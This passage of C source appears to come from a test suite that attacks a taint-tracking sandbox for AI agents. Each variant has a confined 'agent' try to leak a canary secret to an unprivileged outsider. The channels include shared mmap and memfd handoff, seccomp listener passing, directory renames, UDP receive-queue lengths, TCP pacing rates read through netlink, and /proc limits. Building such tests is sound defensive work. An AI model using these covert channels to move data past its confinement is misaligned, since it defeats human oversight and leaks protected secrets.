    if (setgroups(0, NULL) < 0 || setgid(ATK_NOBODY) < 0 || setuid(ATK_NOBODY) < 0)
        _exit(1);
}

int atkv_keeper_park(int fd, int cmd, int ans)
{
    int sv[2];
    if (socketpair(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0, sv) < 0)
        _exit(2);
    if (fd < 0 || atk_send_fds(sv[0], 'F', &fd, 1) < 0 || close(fd) < 0)
        _exit(3);
    if (write(ans, "r", 1) != 1)
        _exit(1);
    char x;
    if (read(cmd, &x, 1) != 1)
        _exit(0);
    int got = -1;
    if (atk_recv_fds(sv[1], &got, 1) != 1)
        _exit(4);
    return got;
}

void atkv_keeper_hand_file(int got, int ans)
{
    char buf[256];
    ssize_t r = pread(got, buf, sizeof(buf), 0);
    if (r > 0 && write(ans, buf, (size_t)r) != r)
        _exit(1);
    _exit(0);
}

int atkv_canary_name_agent(struct atk_ctx *c)
{
    char p[700];
    snprintf(p, sizeof(p), "%s/%s", atk_arg(c, "ws"), c->secret);
    int fd = (int)atk_try(c, "create WS/<canary>", open(p, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0600));
    if (fd >= 0)
        close(fd);
    return 0;
}

void atkv_outside_shared_verify(struct atk_ctx *c)
{
    char f[720];
    snprintf(f, sizeof(f), "%s/outside/shared", c->dir);
    atk_nobody_reads(c, f);
}

/* ---- a connection the agent makes before its recv, left in the outsider's backlog */
int atkv_backlog_prepare(struct atk_ctx *c)
{
    struct sockaddr_un sa = {.sun_family = AF_UNIX};
    int n = snprintf(sa.sun_path, sizeof(sa.sun_path), "%s/lc.sock", c->dir);
    int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (s < 0 || n <= 0 || (size_t)n >= sizeof(sa.sun_path) || bind(s, (struct sockaddr *)&sa, sizeof(sa)) < 0 ||
        chmod(sa.sun_path, 0666) < 0 || listen(s, 4) < 0) {
        if (s >= 0)
            close(s);
        return -1;
    }
    c->fdslot[ATKV_BACKLOG_SLOT] = s;
    atk_set(c, "lc", "%s", sa.sun_path);
    return 0;
}

int atkv_backlog_agent(struct atk_ctx *c)
{
    int s = atk_unix(SOCK_STREAM, atk_arg(c, "lc"));
    if (atk_try(c, "connect to the outsider before the recv", s) < 0)
        return -1;
    atk_recv(c); /* now tainted */
    atk_sync(c, "late");
    return s;
}

void atkv_backlog_cleanup(struct atk_ctx *c)
{
    if (c->fdslot[ATKV_BACKLOG_SLOT] > 0)
        close(c->fdslot[ATKV_BACKLOG_SLOT]);
    c->fdslot[ATKV_BACKLOG_SLOT] = -1;
}

/* ---- mmap_shared_file, mmap_mprotect_file: an outsider's O_RDWR file, mapped shared */
static void mmap_outsider(const struct atk_ctx *c, const char *path, int cmd, int ans)
{
    char f[700];
    snprintf(f, sizeof(f), "%s/mm.out", c->dir);
    int l = atkv_keeper_listen(path);
    int fd = open(f, O_RDWR | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
    if (fd < 0 || ftruncate(fd, ATKV_PAGE) < 0 || fchown(fd, ATK_NOBODY, ATK_NOBODY) < 0)
        _exit(2);
    atkv_keeper_nobody();
    if (write(ans, "r", 1) != 1)
        _exit(1);
    int s = accept4(l, NULL, NULL, SOCK_CLOEXEC);
    if (s < 0 || atk_send_fds(s, 'F', &fd, 1) < 0)
        _exit(3);
    close(fd); /* the outsider keeps nothing open: only the file on disk */
    char x;
    if (read(s, &x, 1) < 0) /* the agent closes its side once it mapped the file */
        _exit(3);
    close(s);
    close(l);
    if (read(cmd, &x, 1) != 1)
        _exit(0);
    fd = open(f, O_RDONLY | O_CLOEXEC);
    char buf[256];
    ssize_t r = fd < 0 ? -1 : pread(fd, buf, sizeof(buf), 0);
    if (r > 0 && write(ans, buf, (size_t)r) != r)
        _exit(1);
    _exit(0);
}

int atkv_mmap_prepare(struct atk_ctx *c)
{
    char k[700];
    snprintf(k, sizeof(k), "%s/mg.sock", c->dir);
    atk_set(c, "mg", "%s", k);
    return atkv_keeper_start(c, k, mmap_outsider, "1 drop to 65534, 2 listen/file, 3 give the fd");
}

int atkv_mmap_agent(struct atk_ctx *c, int mprotect_after)
{
    int s = (int)atk_try(c, "connect the outsider", atk_unix(SOCK_STREAM, atk_arg(c, "mg")));
    if (s < 0)
        return 0;
    int fd = -1;
    if (atk_try(c, "take its O_RDWR file fd", atk_recv_fds(s, &fd, 1) == 1 ? 0 : -1) < 0)
        return 0;
    int prot = mprotect_after ? PROT_READ : PROT_READ | PROT_WRITE;
    char *m = mmap(NULL, ATKV_PAGE, prot, MAP_SHARED, fd, 0);
    if (atk_try(c, mprotect_after ? "mmap MAP_SHARED PROT_READ" : "mmap MAP_SHARED PROT_READ|PROT_WRITE",
                m == MAP_FAILED ? -1 : 0) < 0)
        return 0;
    close(fd);
    close(s);
    atk_recv(c); /* now tainted; we hold no fd, only a shared mapping (r--s or rw-s) */
    if (mprotect_after &&
        atk_try(c, "mprotect PROT_READ|PROT_WRITE", mprotect(m, ATKV_PAGE, PROT_READ | PROT_WRITE)) < 0)
        return 0;
    memcpy(m, c->secret, strlen(c->secret));
    atk_try(c, "msync", msync(m, ATKV_PAGE, MS_SYNC));
    munmap(m, ATKV_PAGE);
    return 0;
}

/* ---- keepers that hand the agent a file of their own, or hold one the agent handed them
 * (what only this section needs, included here) */

int atkv_keeper_start_at(struct atk_ctx *c, const char *tag, atkv_keeper_fn fn, const char *hint)
{
    char k[700];
    snprintf(k, sizeof(k), "%s/%s.sock", c->dir, tag);
    atk_set(c, tag, "%s", k);
    return atkv_keeper_start(c, k, fn, hint);
}

int atkv_keeper_take_as_nobody(const char *path, int ans)
{
    int l = atkv_keeper_listen(path);
    atkv_keeper_nobody();
    if (write(ans, "r", 1) != 1)
        _exit(1);
    return atkv_keeper_take_one(l);
}

int atkv_keeper_take_held(int l, int ans, int *s)
{
    if (write(ans, "r", 1) != 1)
        _exit(1);
    *s = accept4(l, NULL, NULL, SOCK_CLOEXEC);
    int fd = -1;
    if (*s < 0 || atk_recv_fds(*s, &fd, 1) != 1)
        _exit(3);
    return fd;
}

void atkv_keeper_ack(int s, int l)
{
    if (write(s, "A", 1) != 1)
        _exit(3);
    close(s);
    close(l);
}

void atkv_keeper_give_one(int l, int fd, int keep, int ans)
{
    if (write(ans, "r", 1) != 1)
        _exit(1);
    int s = accept4(l, NULL, NULL, SOCK_CLOEXEC);
    if (s < 0 || atk_send_fds(s, 'F', &fd, 1) < 0)
        _exit(3);
    if (!keep)
        close(fd);
    char x;
    if (read(s, &x, 1) < 0) /* the agent closes its side once it has the fd */
        _exit(3);
    close(s);
    close(l);
}

int atkv_keeper_pty(int *sl)
{
    int m = posix_openpt(O_RDWR | O_NOCTTY | O_CLOEXEC);
    if (m < 0 || grantpt(m) < 0 || unlockpt(m) < 0)
        _exit(4);
    *sl = open(ptsname(m), O_RDWR | O_NOCTTY | O_CLOEXEC);
    if (*sl < 0)
        _exit(4);
    return m;
}

void atkv_keeper_wait_asked(int cmd)
{
    char x;
    if (read(cmd, &x, 1) != 1)
        _exit(0);
}

void atkv_keeper_answer(int ans, const void *buf, size_t n)
{
    if (n > 0 && write(ans, buf, n) != (ssize_t)n)
        _exit(1);
    _exit(0);
}

void atkv_keeper_serve_notifs(int lf, int cmd, atkv_notif_fn fn, void *arg)
{
    for (;;) {
        struct pollfd pf[2] = {{.fd = lf, .events = POLLIN}, {.fd = cmd, .events = POLLIN}};
        if (poll(pf, 2, -1) < 0)
            _exit(1);
        if (pf[0].revents & POLLIN) {
            struct seccomp_notif req;
            memset(&req, 0, sizeof(req));
            if (ioctl(lf, SECCOMP_IOCTL_NOTIF_RECV, &req) == 0)
                fn(lf, &req, arg);
            continue;
        }
        if (pf[0].revents & (POLLHUP | POLLERR))
            lf = -1; /* the agent is gone: wait for the question only */
        if (pf[1].revents & (POLLIN | POLLHUP))
            break;
    }
}

int atkv_take_keeper_fd(struct atk_ctx *c, const char *tag, const char *what)
{
    int s = (int)atk_try(c, "connect the outsider", atk_unix(SOCK_STREAM, atk_arg(c, tag)));
    if (s < 0)
        return -1;
    int fd = -1;
    if (atk_try(c, what, atk_recv_fds(s, &fd, 1) == 1 ? 0 : -1) < 0) {
        close(s);
        return -1;
    }
    close(s);
    return fd;
}

int atkv_hand_to_keeper(struct atk_ctx *c, const char *tag, int fd, char code, const char *what, const char *ack)
{
    int s = (int)atk_try(c, "connect the outsider", atk_unix(SOCK_STREAM, atk_arg(c, tag)));
    if (fd < 0 || s < 0) {
        if (s >= 0)
            close(s);
        return -1;
    }
    char x;
    if (atk_try(c, what, atk_send_fds(s, code, &fd, 1)) >= 0) /* refused: no ack will come */
        atk_try(c, ack, read(s, &x, 1));
    close(s);
    return 0;
}

int atkv_seccomp_listener_out(struct atk_ctx *c, const char *tag)
{
    struct sock_filter f[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_getppid, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    struct sock_fprog prog = {.len = sizeof(f) / sizeof(f[0]), .filter = f};
    int lf = (int)atk_try(c, "seccomp filter with a user-notification listener",
                          syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &prog));
    if (atkv_hand_to_keeper(c, tag, lf, 'L', "hand the listener to the outsider", "outsider holds it") < 0)
        return -1;
    close(lf);
    atk_recv(c); /* now tainted; the filter stays, the listener is the outsider's */
    return 0;
}

int atkv_control_pair_agent(struct atk_ctx *c, const char *tag, const char *before, const char *after)
{
    int s = (int)atk_try(c, "connect the outsider", atk_unix(SOCK_STREAM, atk_arg(c, tag)));
    int sp[2];
    if (s < 0 || socketpair(AF_UNIX, SOCK_STREAM, 0, sp) < 0)
        return 0;
    atk_try(c, "hand over one end", atk_send_fds(s, 'L', &sp[1], 1));
    atk_recv(c);
    char line[300];
    int n = snprintf(line, sizeof(line), "%s%s%s", before, c->secret, after);
    if (n < 0 || (size_t)n >= sizeof(line))
        n = 0;
    atk_try(c, "write it", write(sp[0], line, (size_t)n));
    sleep(1); /* the keeper reads it */
    return 0;
}

int atkv_memfd_out_agent(struct atk_ctx *c, const char *tag, const char *kept)
{
    int m = (int)atk_try(c, "memfd_create", memfd_create("atk", MFD_CLOEXEC));
    if (m < 0 || ftruncate(m, 4096) < 0)
        return 0;
    if (atkv_hand_to_keeper(c, tag, m, 'M', "pass the memfd out", kept) < 0)
        return 0;
    atk_recv(c);
    atk_try(c, "pwrite the canary into the memfd", pwrite(m, c->secret, strlen(c->secret), 0));
    return 0;
}

static const char *hex_path; /* atkv_nobody_reads_hex's file, for its atk_as_uid child */

static int nobody_rd_hex(struct atk_ctx *c, char *out, size_t n)
{
    char hex[2 * sizeof(c->canary) + 1];
    size_t l = strlen(c->canary);
    for (size_t i = 0; i < l; i++)
        snprintf(hex + 2 * i, 3, "%02x", (unsigned char)c->canary[i]);
    hex[2 * l] = 0;
    if (atk_file_has(hex_path, hex) != 1)
        return 0;
    snprintf(out, n, "uid 65534 read the canary (hex %s) from %s", hex, hex_path);
    return 1;
}

void atkv_nobody_reads_hex(struct atk_ctx *c, const char *path)
{
    char out[1024];
    hex_path = path;
    if (atk_as_uid(c, ATK_NOBODY, nobody_rd_hex, out, sizeof(out)) == 1)
        atk_evidence(c, "%s", out);
}

void atkv_rm_deep(const char *ws, const char *name, int depth)
{
    int fds[64];
    int n = 0;
    if (depth > 63)
        depth = 63;
    fds[n] = open(ws, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    while (fds[n] >= 0 && n < depth) {
        int d = openat(fds[n], name, O_RDONLY | O_DIRECTORY | O_NOFOLLOW | O_CLOEXEC);
        if (d < 0)
            break;
        fds[++n] = d;
    }
    if (fds[n] < 0)
        return;
    int dd = dup(fds[n]);
    DIR *dir = dd >= 0 ? fdopendir(dd) : NULL;
    for (struct dirent *e; dir && (e = readdir(dir));)
        if (strcmp(e->d_name, ".") != 0 && strcmp(e->d_name, "..") != 0)
            (void)unlinkat(fds[n], e->d_name, 0);
    if (dir)
        closedir(dir);
    else if (dd >= 0)
        close(dd);
    for (; n > 0; n--) {
        close(fds[n]);
        (void)unlinkat(fds[n - 1], name, AT_REMOVEDIR);
    }
    close(fds[0]);
}

/* ---- ws_launcher_msg, ws_taint_note_name, ws_taint_show_name */
pid_t atkv_mncctl(struct atk_ctx *c, const char *const *args, const char *out, int stdout_too)
{
    (void)c;
    const char *ctl = getenv("MNCCTL");
    if (!ctl || !*ctl)
        return -1;
    pid_t pid = fork();
    if (pid == 0) {
        int o = open(out, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
        int nul = open("/dev/null", O_RDWR | O_CLOEXEC);
        if (o < 0 || nul < 0 || dup2(nul, 0) < 0 || dup2(stdout_too ? o : nul, 1) < 0 || dup2(o, 2) < 0)
            _exit(127);
        char *argv[20];
        int n = 0;
        argv[n++] = (char *)ctl;
        for (int i = 0; args[i] && n < 19; i++)
            argv[n++] = (char *)args[i];
        argv[n] = NULL;
        execv(argv[0], argv);
        _exit(127);
    }
    return pid;
}

pid_t atkv_mncctl_run(struct atk_ctx *c, const char *ws, const char *out, const char *const *cmd)
{
    const char *rootflag = getenv("ATK_ROOTFLAG");
    const char *args[20] = {"run", "--agent", "coordinator", "--workspace", ws};
    int n = 5;
    if (strcmp(c->mode, "root") == 0 && rootflag && *rootflag)
        args[n++] = rootflag;
    args[n++] = "--";
    for (int i = 0; cmd[i] && n < 19; i++)
        args[n++] = cmd[i];
    args[n] = NULL;
    return atkv_mncctl(c, args, out, 0);
}

void atkv_mncctl_wait(pid_t pid)
{
    if (pid > 0)
        waitpid(pid, NULL, 0);
}

int atkv_taint_rename_agent(struct atk_ctx *c)
{
    char sub[700], to[700];
    snprintf(sub, sizeof(sub), "%s/sub", atk_arg(c, "ws"));
    if (atk_try(c, "mkdir WS/sub", mkdir(sub, 0700)) < 0)
        return 0;
    atk_sync(c, "b"); /* a second instance runs on WS/sub */
    atk_recv(c);
    if (getenv("ATK_CONTROL_SECRET")) { /* positive control (root, unconfined, untainted): the record mncd
                                         * would have written */
        static const char rec[] = "{\"v\":1,\"tainted\":true,\"sinks\":[],\"may_log\":false,\"may_memory\":false,"
                                  "\"may_forward\":false,\"may_external\":false}";
        atk_try(c, "control: setxattr trusted.mnc.taint on WS/sub",
                setxattr(sub, "trusted.mnc.taint", rec, strlen(rec), 0));
    }
    snprintf(to, sizeof(to), "%s/%s", atk_arg(c, "ws"), c->secret);
    atk_try(c, "rename WS/sub to WS/<canary>", rename(sub, to));
    return 0;
}

void atkv_taint_rename_on_sync(struct atk_ctx *c, const char *tag)
{
    if (strcmp(tag, "b") != 0)
        return;
    char sub[700], err[700];
    snprintf(sub, sizeof(sub), "%s/sub", c->ws);
    snprintf(err, sizeof(err), "%s/second.err", c->dir);
    static const char *const cmd[] = {"/bin/sleep", "6", NULL};
    c->slot[0] = atkv_mncctl_run(c, sub, err, cmd);
    struct timespec ts = {2, 0}; /* the second instance registers and starts */
    nanosleep(&ts, NULL);
}

void atkv_taint_rename_wait(struct atk_ctx *c)
{
    if (c->slot[0] > 0) { /* the second instance ends by itself (sleep 6) */
        waitpid((pid_t)c->slot[0], NULL, 0);
        c->slot[0] = 0;
    }
}

void atkv_taint_rename_cleanup(struct atk_ctx *c)
{
    if (c->slot[0] > 0) {
        kill((pid_t)c->slot[0], SIGTERM);
        waitpid((pid_t)c->slot[0], NULL, 0);
        c->slot[0] = 0;
    }
}

/* ---- proc_limits, prlimit_outside */
static const char *limits_label2; /* for limits_rd, run by atk_as_uid */

static uint64_t limits_hard_of(const char *buf, const char *label)
{
    const char *l = strstr(buf, label);
    if (!l)
        return 0;
    l += strlen(label);
    char soft[32], hard[32];
    if (sscanf(l, " %31s %31s", soft, hard) != 2 || hard[0] < '0' || hard[0] > '9')
        return 0;
    return strtoull(hard, NULL, 10);
}

static int limits_rd(struct atk_ctx *c, char *out, size_t n)
{
    DIR *d = opendir("/proc");
    if (!d)
        return -1;
    int found = 0;
    for (struct dirent *e; !found && (e = readdir(d));) {
        if (e->d_name[0] < '0' || e->d_name[0] > '9')
            continue;
        char p[300], buf[4096];
        snprintf(p, sizeof(p), "/proc/%s/limits", e->d_name);
        FILE *f = fopen(p, "re");
        if (!f)
            continue;
        size_t r = fread(buf, 1, sizeof(buf) - 1, f);
        fclose(f);
        buf[r] = 0;
        uint64_t v[2] = {limits_hard_of(buf, "Max core file size"), limits_hard_of(buf, limits_label2)};
        char s[17];
        memcpy(s, v, 16);
        s[16] = 0;
        if (strncmp(s, c->canary, strlen(c->canary)) == 0) {
            snprintf(out, n, "uid 65534 decoded the canary from %s", p);
            found = 1;
        }
    }
    closedir(d);
    return found;
}

void atkv_limits_check(struct atk_ctx *c, const char *label2)
{
    char out[512];
    limits_label2 = label2;
    if (atk_as_uid(c, ATK_NOBODY, limits_rd, out, sizeof(out)) == 1)
        atk_evidence(c, "%s", out);
}

/* ---- workspace_longpath_out, workspace_longpath_inotify */
int atkv_deep_dir(struct atk_ctx *c, int depth, int create)
{
    char name[201];
    memset(name, 'd', 200);
    name[200] = 0;
    int d = open(atk_arg(c, "ws"), O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    for (int i = 0; d >= 0 && i < depth; i++) {
        if (create && mkdirat(d, name, 0700) < 0) {
            close(d);
            return -1;
        }
        int nd = openat(d, name, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        close(d);
        d = nd;
    }
    return d;
}

int atkv_keeper_take_asked(const char *path, int cmd, int ans)
{
    int l = atkv_keeper_listen(path);
    atkv_keeper_nobody();
    if (write(ans, "r", 1) != 1)
        _exit(1);
    int got = atkv_keeper_take_one(l);
    char x;
    if (read(cmd, &x, 1) != 1)
        _exit(0);
    return got;
}

void atkv_counter_digits(struct atk_ctx *c, const char *tag, const char *reading, int digits, const char *evidence)
{
    long now = atol(reading);
    if (now < 0) {
        c->slot[2] = 1; /* unreadable */
        return;
    }
    if (strcmp(tag, "base") == 0) {
        c->slot[0] = now;
        return;
    }
    int i = atoi(tag + 1);
    if (tag[0] != 'd' || i < 0 || i >= digits)
        return;
    long d = now - c->slot[0];
    c->slot[0] = now;
    if (d < 0 || d > 15)
        c->slot[2] = 1;
    else
        c->slot[1] = (c->slot[1] << 4) | d;
    if (i == digits - 1) {
        char got[32];
        snprintf(got, sizeof(got), "mk%012llx", (unsigned long long)c->slot[1]);
        if (!c->slot[2] && strcmp(got, c->canary) == 0)
            atk_evidence(c, "%s", evidence);
        else
            atk_note(c, "decoded %s%s", got, c->slot[2] ? " (a step unreadable or out of range)" : "");
    }
}

int atkv_wrap_main(const struct atk *a, int argc, char **argv, const char *real_env, const char *inner_env,
                   int (*wrap)(char **argv))
{
    const char *real = getenv(real_env);
    if (argc >= 2 && real && strcmp(argv[1], "agent") != 0 && strcmp(argv[1], "disclose") != 0 &&
        strcmp(argv[1], "peek") != 0 && strcmp(argv[1], "--describe") != 0) {
        int coord = 0;
        for (int i = 1; i < argc && strcmp(argv[i], "--") != 0; i++)
            coord |= strcmp(argv[i], "coordinator") == 0;
        argv[0] = (char *)real;
        if (!coord || strcmp(argv[1], "run") != 0) {
            execv(real, argv);
            return 127;
        }
        return wrap(argv);
    }
    if (argc >= 2 && strcmp(argv[1], "agent") == 0 && getenv("ATK_CONTROL_SECRET") && !getenv(inner_env)) {
        static char self[] = "/proc/self/exe";
        if (setenv(inner_env, "1", 1) < 0)
            return 127;
        argv[0] = self;
        return wrap(argv);
    }
    return atk_main(a, argc, argv);
}

/* Reads a NETLINK_SOCK_DIAG dump already requested on s until NLMSG_DONE, calling msg for every
 * message; closes s. The number of messages, or -1 if none could be read. */
static int diag_loop(int s, void (*msg)(const struct nlmsghdr *h, void *arg), void *arg)
{
    static char buf[1 << 16];
    int got = 0;
    for (;;) {
        ssize_t r = recv(s, buf, sizeof(buf), 0);
        if (r <= 0)
            break;
        for (struct nlmsghdr *h = (struct nlmsghdr *)buf; NLMSG_OK(h, (size_t)r); h = NLMSG_NEXT(h, r)) {
            if (h->nlmsg_type == NLMSG_DONE || h->nlmsg_type == NLMSG_ERROR) {
                close(s);
                return got;
            }
            got++;
            msg(h, arg);
        }
    }
    close(s);
    return got;
}

struct inet_each {
    void (*each)(const struct inet_diag_msg *m, int type, const void *p, size_t n, void *arg);
    void *arg;
};

static void inet_msg(const struct nlmsghdr *h, void *arg)
{
    const struct inet_each *e = arg;
    const struct inet_diag_msg *m = NLMSG_DATA(h);
    int alen = (int)(h->nlmsg_len - NLMSG_LENGTH(sizeof(*m)));
    for (struct rtattr *at = (struct rtattr *)(m + 1); RTA_OK(at, alen); at = RTA_NEXT(at, alen))
        e->each(m, at->rta_type, RTA_DATA(at), RTA_PAYLOAD(at), e->arg);
}

int atkv_diag_dump(int proto, unsigned ext, unsigned states,
                   void (*each)(const struct inet_diag_msg *m, int type, const void *p, size_t n, void *arg), void *arg)
{
    int s = socket(AF_NETLINK, SOCK_DGRAM | SOCK_CLOEXEC, NETLINK_SOCK_DIAG);
    if (s < 0)
        return -1;
    struct {
        struct nlmsghdr h;
        struct inet_diag_req_v2 r;
    } req = {
        .h = {.nlmsg_len = sizeof(req), .nlmsg_type = SOCK_DIAG_BY_FAMILY, .nlmsg_flags = NLM_F_REQUEST | NLM_F_DUMP},
        .r = {.sdiag_family = AF_INET,
              .sdiag_protocol = (uint8_t)proto,
              .idiag_ext = (uint8_t)ext,
              .idiag_states = states}};
    if (send(s, &req, sizeof(req), 0) != (ssize_t)sizeof(req)) {
        close(s);
        return -1;
    }
    struct inet_each e = {each, arg};
    return diag_loop(s, inet_msg, &e);
}

struct pacing_rates {
    unsigned char b[1 << 14];
    size_t n;
};

static void pacing_each(const struct inet_diag_msg *m, int type, const void *p, size_t n, void *arg)
{
    (void)m;
    struct pacing_rates *pr = arg;
    if (type != INET_DIAG_INFO || n < sizeof(struct tcp_info) || pr->n + 8 > sizeof(pr->b))
        return;
    struct tcp_info ti;
    memcpy(&ti, p, sizeof(ti));
    memcpy(pr->b + pr->n, &ti.tcpi_max_pacing_rate, 8);
    pr->n += 8;
}

static int chunk_len;
static int pacing_read(struct atk_ctx *c, char *out, size_t n)
{
    (void)c;
    static struct pacing_rates pr;
    pr.n = 0;
    atkv_diag_dump(IPPROTO_TCP, 1 << (INET_DIAG_INFO - 1), 1 << 10 /* TCP_LISTEN */, pacing_each, &pr);
    char msg[64] = {0};
    for (int i = 0; i < 8 && (i + 1) * chunk_len < (int)sizeof(msg); i++) /* chunk i: 0xa0 + i, then its bytes */
        for (size_t k = 0; k + 8 <= pr.n; k += 8)
            if (pr.b[k] == 0xa0 + i)
                memcpy(msg + i * chunk_len, pr.b + k + 1, (size_t)chunk_len);
    snprintf(out, n, "%s", msg);
    return 0;
}

void atkv_pacing_verify(struct atk_ctx *c, const char *tag, int chunk)
{
    if (strcmp(tag, "set") != 0)
        return;
    chunk_len = chunk;
    char got[64] = {0};
    if (atk_as_uid(c, ATK_NOBODY, pacing_read, got, sizeof(got)) >= 0 && strstr(got, c->canary))
        atk_evidence(c, "uid 65534 read the canary from the max pacing rates of the agent's TCP listeners "
                        "(NETLINK_SOCK_DIAG, tcp_info)");
}

const char *atkv_shared_file(void) { return access("/etc/hostname", R_OK) == 0 ? "/etc/hostname" : "/bin/busybox"; }

struct unix_collect {
    struct atkv_unix_sock *out;
    int cap, got;
};

static void unix_msg(const struct nlmsghdr *h, void *arg)
{
    struct unix_collect *uc = arg;
    const struct unix_diag_msg *m = NLMSG_DATA(h);
    if (m->udiag_type != SOCK_STREAM || uc->got >= uc->cap)
        return;
    int alen = (int)(h->nlmsg_len - NLMSG_LENGTH(sizeof(*m)));
    struct atkv_unix_sock u = {.ino = m->udiag_ino};
    for (struct rtattr *at = (struct rtattr *)(m + 1); RTA_OK(at, alen); at = RTA_NEXT(at, alen)) {
        if (at->rta_type == UNIX_DIAG_PEER && RTA_PAYLOAD(at) >= 4)
            memcpy(&u.peer, RTA_DATA(at), 4);
        else if (at->rta_type == UNIX_DIAG_RQLEN && RTA_PAYLOAD(at) >= sizeof(struct unix_diag_rqlen))
            u.rq = ((const struct unix_diag_rqlen *)RTA_DATA(at))->udiag_rqueue;
        else if (at->rta_type == UNIX_DIAG_SHUTDOWN && RTA_PAYLOAD(at) >= 1)
            u.sd = *(const unsigned char *)RTA_DATA(at) & 3;
    }
    uc->out[uc->got++] = u;
}

static int unix_cmp(const void *a, const void *b)
{
    const struct atkv_unix_sock *x = a, *y = b;
    return x->ino < y->ino ? -1 : x->ino > y->ino;
}

/* A NETLINK_SOCK_DIAG socket with a dump of the UNIX sockets in `states` requested (show:
 * UDIAG_SHOW_*), for diag_loop; -1 on failure. */
static int unix_diag_request(unsigned states, unsigned show)
{
    int s = socket(AF_NETLINK, SOCK_DGRAM | SOCK_CLOEXEC, NETLINK_SOCK_DIAG);
    if (s < 0)
        return -1;
    struct {
        struct nlmsghdr h;
        struct unix_diag_req r;
    } req = {
        .h = {.nlmsg_len = sizeof(req), .nlmsg_type = SOCK_DIAG_BY_FAMILY, .nlmsg_flags = NLM_F_REQUEST | NLM_F_DUMP},
        .r = {.sdiag_family = AF_UNIX, .udiag_states = states, .udiag_show = show}};
    if (send(s, &req, sizeof(req), 0) != (ssize_t)sizeof(req)) {
        close(s);
        return -1;
    }
    return s;
}

int atkv_unix_streams(struct atkv_unix_sock *out, int cap)
{
    /* TCP_ESTABLISHED only; UNIX_DIAG_SHUTDOWN is always sent */
    int s = unix_diag_request(1u << 1, UDIAG_SHOW_PEER | UDIAG_SHOW_RQLEN);
    if (s < 0)
        return -1;
    struct unix_collect uc = {out, cap, 0};
    if (diag_loop(s, unix_msg, &uc) < 0)
        return -1;
    qsort(out, (size_t)uc.got, sizeof(out[0]), unix_cmp);
    return uc.got;
}

/* ---- udp_recvq_* */
#define RQ_SOCKS 28 /* one per nibble of the 14-character canary */
#define RQ_N 16

int atkv_udp_recvq_agent(struct atk_ctx *c, char when)
{
    atk_sync(c, "pre");
    int s[RQ_SOCKS];
    struct sockaddr_in nine = {.sin_family = AF_INET, .sin_port = htons(9), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    for (int i = 0; i < RQ_SOCKS; i++) { /* the first of each noted */
        s[i] = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
        long r = s[i] < 0 ? -1 : sendto(s[i], "x", 1, 0, (struct sockaddr *)&nine, sizeof(nine));
        if (i == 0) {
            atk_try(c, "socket udp", s[i]);
            atk_try(c, when == 'A' ? "sendto 127.0.0.1:9 (autobinds even if refused)" : "sendto 127.0.0.1:9 untainted",
                    r);
        }
    }
    if (when == 'F')
        atk_sync(c, "bound"); /* the outsider queues RQ_N + 1 datagrams on each before the taint */
    if (when != 'A')
        atk_recv(c);
    if (when != 'F')
        atk_sync(c, "bound");
    size_t n = strlen(c->secret);
    int got = 0;
    for (int i = 0; i < RQ_SOCKS; i++) {
        unsigned char j;
        if (s[i] < 0 || recv(s[i], &j, 1, MSG_DONTWAIT) != 1 || j >= RQ_SOCKS || (size_t)j / 2 >= n)
            continue;
        unsigned v = (unsigned char)c->secret[j / 2];
        unsigned nib = j % 2 ? v & 15 : v >> 4;
        for (unsigned k = 0; k < nib; k++)
            if (recv(s[i], &j, 1, MSG_DONTWAIT) != 1)
                break;
        got++;
    }
    atk_note(c, "read an index from %d of %d sockets", got, RQ_SOCKS);
    atk_sync(c, "read"); /* the sockets stay open until the agent exits */
    return 0;
}

/* UDP sockets in /proc/net/udp: (inode, uid, local port, rx_queue) into out; how many, or -1 */
struct rq_sock {
    unsigned long ino;
    unsigned uid, port, rx;
};
static int list_udp(struct rq_sock *out, int cap)
{
    FILE *f = fopen("/proc/net/udp", "re");
    if (!f)
        return -1;
    char line[512];
    int n = 0;
    if (!fgets(line, sizeof(line), f)) { /* the header */
        fclose(f);
        return -1;
    }
    while (n < cap && fgets(line, sizeof(line), f)) {
        unsigned port, tx, rx, uid;
        unsigned long ino;
        if (sscanf(line, " %*d: %*x:%x %*x:%*x %*x %x:%x %*x:%*x %*x %u %*d %lu", &port, &tx, &rx, &uid, &ino) == 5)
            out[n++] = (struct rq_sock){ino, uid, port, rx};
    }
    fclose(f);
    return n;
}

static struct rq_sock before[4096];
static int nbefore;
static unsigned ports[RQ_SOCKS];
static int nports;

static int was_there(unsigned long ino)
{
    for (int i = 0; i < nbefore; i++)
        if (before[i].ino == ino)
            return 1;
    return 0;
}

/* the outsider sends RQ_N + 1 one-byte datagrams carrying j to each new socket of the agent */
static void send_indexes(struct atk_ctx *c)
{
    static struct rq_sock now[4096];
    int n = list_udp(now, 4096);
    int s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    for (int i = 0; s >= 0 && i < n && nports < RQ_SOCKS; i++) {
        if (now[i].uid != (unsigned)c->agent_uid || was_there(now[i].ino))
            continue;
        unsigned char j = (unsigned char)nports;
        struct sockaddr_in to = {
            .sin_family = AF_INET, .sin_port = htons((uint16_t)now[i].port), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
        for (int k = 0; k <= RQ_N; k++)
            if (sendto(s, &j, 1, 0, (struct sockaddr *)&to, sizeof(to)) != 1)
                break;
        ports[nports++] = now[i].port;
    }
    if (s >= 0)
        close(s);
}

/* uid 65534: the rx_queue of each port, in units of one datagram measured on its own socket;
 * the nibbles go to msg */
static void read_queues(char *msg, size_t cap)
{
